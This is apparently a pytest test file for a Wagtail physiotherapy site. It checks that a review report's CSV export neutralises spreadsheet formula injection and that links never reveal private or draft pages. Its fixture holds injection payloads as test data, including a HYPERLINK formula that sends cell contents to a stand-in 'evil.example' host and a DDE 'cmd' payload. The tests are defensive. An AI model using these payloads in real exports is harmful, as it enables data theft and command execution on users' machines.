"""Issue 10: no formulas run from the review report's CSV; no private page leaks
through a procedure or treatment link."""

import csv
import datetime
import io

import pytest
from django.contrib.auth.models import Group
from wagtail.models import Page, PageViewRestriction

from tests.factories import (
    make_condition_page,
    make_private_page,
    make_user,
    request_sql,
)
from wagtail_physio.blocks import ProcedureBlock
from wagtail_physio.core.api import is_public_page, page_data

pytestmark = pytest.mark.django_db

REPORT_URL = "/admin/physio/reviews-due/"


# CSV formula injection in the review report -------------------------------------

#: One dangerous value per text column, each starting with one of OWASP's
#: characters; the owner's column is the user's full name.
FORMULAS = {
    "title": '=HYPERLINK("https://evil.example/?leak="&A2,"Open")',
    "reviewer_name": "+cmd|' /C calc'!A0",
    "reviewer_role": "-2+3",
    "owner": "@SUM(1+1) Mallory",
}


@pytest.fixture
def formula_page(condition_index):
    owner = make_user("mallory", "mallory@clinic.example")
    first_name, last_name = FORMULAS["owner"].split(" ")
    owner.first_name, owner.last_name = first_name, last_name
    owner.save()
    return make_condition_page(
        condition_index,
        title=FORMULAS["title"],
        slug="formula",
        reviewer_name=FORMULAS["reviewer_name"],
        reviewer_role=FORMULAS["reviewer_role"],
        last_reviewed=datetime.date(2020, 1, 1),
        owner=owner,
    )


def export_bytes(admin_client, export_format="csv"):
    response = admin_client.get(f"{REPORT_URL}?export={export_format}")
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def csv_rows(admin_client):
    text = export_bytes(admin_client).decode()
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_export_neutralises_formulas_in_every_text_column(
    admin_client, formula_page
):
    (row,) = csv_rows(admin_client)

    assert row["Title"] == "'" + FORMULAS["title"]
    assert row["Reviewer"] == "'" + FORMULAS["reviewer_name"]
    assert row["Reviewer role"] == "'" + FORMULAS["reviewer_role"]
    assert row["Owner"] == "'" + FORMULAS["owner"]
    # Dates and plain text are left alone.
    assert row["Last reviewed"] == "2020-01-01"
    assert row["Status"] == "Overdue"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_export_neutralises_each_formula_character(
    admin_client, condition_index, start
):
    make_condition_page(
        condition_index,
        title="Ankle sprain",
        reviewer_name=f"{start}1+1",
        reviewer_role="Physiotherapist",
    )

    (row,) = csv_rows(admin_client)

    assert row["Reviewer"] == f"'{start}1+1"
    assert row["Title"] == "Ankle sprain"
    assert row["Reviewer role"] == "Physiotherapist"


def test_xlsx_export_and_report_keep_the_text_as_it_is(admin_client, formula_page):
    import openpyxl  # slow to import: only where it is used

    workbook = openpyxl.load_workbook(io.BytesIO(export_bytes(admin_client, "xlsx")))
    header, row = workbook.active.iter_rows(values_only=True)
    cells = dict(zip(header, row, strict=True))
    assert cells["Title"] == FORMULAS["title"]
    assert cells["Reviewer"] == FORMULAS["reviewer_name"]
    assert cells["Reviewer role"] == FORMULAS["reviewer_role"]
    assert cells["Owner"] == FORMULAS["owner"]
    # Stored as text, not as formulas to run.
    (data_row,) = list(workbook.active.iter_rows(min_row=2))
    assert all(cell.data_type != "f" for cell in data_row)

    response = admin_client.get(REPORT_URL)
    html = response.content.decode()
    assert "+cmd|&#x27; /C calc&#x27;!A0" in html
    assert "&#x27;+cmd" not in html
    assert [page.title for page in response.context["object_list"]] == [
        FORMULAS["title"]
    ]


# Private pages behind procedure and treatment links ------------------------------


def make_group_restricted_page(parent, title):
    page = make_condition_page(parent, title=title)
    restriction = PageViewRestriction.objects.create(
        page=page, restriction_type=PageViewRestriction.GROUPS
    )
    restriction.groups.add(Group.objects.create(name="Clinicians"))
    return page


def make_page_under_private_parent(parent, title):
    private_parent = make_private_page(parent, title="Staff area")
    return make_condition_page(private_parent, title=title)


#: Each page a reader must not learn of, by how it is hidden.
HIDDEN = {
    "login": lambda parent: make_private_page(parent, title="Quietly login rehab"),
    "password": lambda parent: make_private_page(
        parent, title="Quietly password rehab", password="secret"
    ),
    "draft": lambda parent: make_condition_page(
        parent, title="Quietly draft rehab", publish=False
    ),
    "groups": lambda parent: make_group_restricted_page(parent, "Quietly groups rehab"),
    "ancestor": lambda parent: make_page_under_private_parent(
        parent, "Quietly ancestor rehab"
    ),
}


def procedure(name, page):
    return {
        "name": name,
        "description": f"What {name.lower()} involves.",
        "page": page.pk if page else None,
        "url": "",
    }


def treatment(name, page):
    return {
        "name": name,
        "description": f"About {name.lower()}.",
        "page": page.pk if page else None,
    }


def linking_body(linked, public):
    """Procedures and treatments linking to each of ``linked`` ({kind: page}), then
    one of each linking to ``public``."""
    return [
        {
            "type": "procedures",
            "value": {
                "heading": "Types of surgery",
                "intro": "",
                "procedures": [
                    *(procedure(f"Procedure {kind}", p) for kind, p in linked.items()),
                    procedure("Procedure public", public),
                ],
                "closing_note": "",
            },
        },
        {
            "type": "treatments",
            "value": {
                "heading": "Treatments",
                "intro": "",
                "treatments": [
                    *(treatment(f"Treatment {kind}", p) for kind, p in linked.items()),
                    treatment("Treatment public", public),
                ],
                "closing_note": "",
            },
        },
    ]


@pytest.fixture
def linking_page(condition_index):
    """A condition page whose procedures and treatments link to each hidden page
    and, for comparison, to one public page."""
    hidden = {kind: make(condition_index) for kind, make in HIDDEN.items()}
    public = make_condition_page(condition_index, title="Open knee rehab")
    # What a reader could have learnt: the hidden pages' titles and addresses.
    secrets = {}
    for kind, page in hidden.items():
        page = Page.objects.get(pk=page.pk)
        slug = page.url_path.rstrip("/").rsplit("/", 1)[-1]
        secrets[kind] = [page.title, slug, page.get_url()]
    page = make_condition_page(
        condition_index, title="Back surgery", body=linking_body(hidden, public)
    )
    return page, public, secrets


def assert_nothing_leaks(text, secrets):
    for kind, leaks in secrets.items():
        for leak in leaks:
            assert leak, kind
            assert leak not in text, f"{kind} page leaked: {leak!r}"


def test_page_html_leaves_out_links_to_private_and_draft_pages(client, linking_page):
    page, public, secrets = linking_page

    response = client.get(page.url)
    assert response.status_code == 200
    html = response.content.decode()

    assert_nothing_leaks(html, secrets)
    # Each item still shows the editor's own words.
    for kind in HIDDEN:
        assert f"Procedure {kind}" in html
        assert f"What procedure {kind} involves." in html
        assert f"Treatment {kind}" in html
    # Links to a public page are still there.
    assert f'href="{public.url}"' in html


def test_page_html_hides_private_links_from_signed_in_readers_too(
    admin_client, linking_page
):
    # As for related conditions: one page for everyone, whoever may see the target.
    page, _, secrets = linking_page
    response = admin_client.get(page.url)
    assert response.status_code == 200
    assert_nothing_leaks(response.content.decode(), secrets)


def test_api_leaves_out_private_and_draft_pages(client, linking_page):
    page, public, secrets = linking_page

    response = client.get(f"/api/v2/pages/{page.pk}/")
    assert response.status_code == 200
    text = response.content.decode()
    assert_nothing_leaks(text, secrets)

    data = response.json()
    procedures = data["body"][0]["value"]["procedures"]
    treatments = data["body"][1]["value"]["treatments"]
    for item in [*procedures[:-1], *treatments[:-1]]:
        assert item["page"] is None, item["name"]
        assert item["link_url"] is None, item["name"]
    assert [item["name"] for item in procedures] == [
        *(f"Procedure {kind}" for kind in HIDDEN),
        "Procedure public",
    ]
    assert procedures[-1]["page"]["title"] == "Open knee rehab"
    assert procedures[-1]["link_url"] == public.url
    assert treatments[-1]["page"]["url"] == public.url


def test_private_links_cost_no_query_of_their_own(client, linking_page):
    page, _, _ = linking_page
    # The same items linking nowhere.
    unlinked = make_condition_page(
        page.get_parent(),
        title="Knee",
        body=linking_body(dict.fromkeys(HIDDEN), None),
    )
    client.get(page.url)  # Wagtail caches the site's root paths

    # Every linked page, private or not, arrives in one bulk query with its
    # privacy already worked out: no view restriction lookup per link.
    sql = request_sql(client, page)
    assert len([q for q in sql if '"wagtailcore_page"."id" IN (' in q]) == 1
    assert len(sql) == len(request_sql(client, unlinked)) + 1


def test_a_page_made_private_after_linking_loses_its_link(client, linking_page):
    page, public, _ = linking_page
    PageViewRestriction.objects.create(
        page=public, restriction_type=PageViewRestriction.LOGIN
    )

    html = client.get(page.url).content.decode()
    data = client.get(f"/api/v2/pages/{page.pk}/").json()

    assert public.url not in html
    assert "Open knee rehab" not in html
    assert data["body"][0]["value"]["procedures"][-1]["page"] is None
    assert "Open knee rehab" not in str(data)


def test_values_built_outside_a_page_view_hide_private_pages_too(condition_index):
    # A preview's form value or a project's own code holds pages the shared loader
    # never annotated (Wagtail's own to_python here): they are checked all the same.
    private = make_private_page(condition_index, title="Quietly login rehab")
    public = make_condition_page(condition_index, title="Open knee rehab")
    block = ProcedureBlock()

    hidden = block.to_python(procedure("Release", private))
    shown = block.to_python(procedure("Release", public))

    assert not hasattr(hidden["page"], "physio_view_restricted")
    assert block.link_url(hidden) is None
    assert private.url not in block.render(hidden)
    assert "Release" in block.render(hidden)
    assert block.get_api_representation(hidden)["page"] is None
    assert block.link_url(shown) == public.url
    assert 'href="' + public.url + '"' in block.render(shown)


def test_is_public_page_checks_each_kind_of_privacy_once(
    condition_index, django_assert_num_queries
):
    pages = {kind: make(condition_index) for kind, make in HIDDEN.items()}
    pages["public"] = make_condition_page(condition_index, title="Open knee rehab")
    loaded = {kind: Page.objects.get(pk=page.pk) for kind, page in pages.items()}

    # Drafts are known from the page itself; the others ask once each.
    with django_assert_num_queries(len(loaded) - 1):
        answers = {kind: is_public_page(page) for kind, page in loaded.items()}
    with django_assert_num_queries(0):
        assert answers == {kind: is_public_page(page) for kind, page in loaded.items()}

    assert answers == {kind: kind == "public" for kind in loaded}
    assert page_data(None) is None
    assert all(page_data(loaded[kind]) is None for kind in HIDDEN)
    assert page_data(loaded["public"])["title"] == "Open knee rehab"
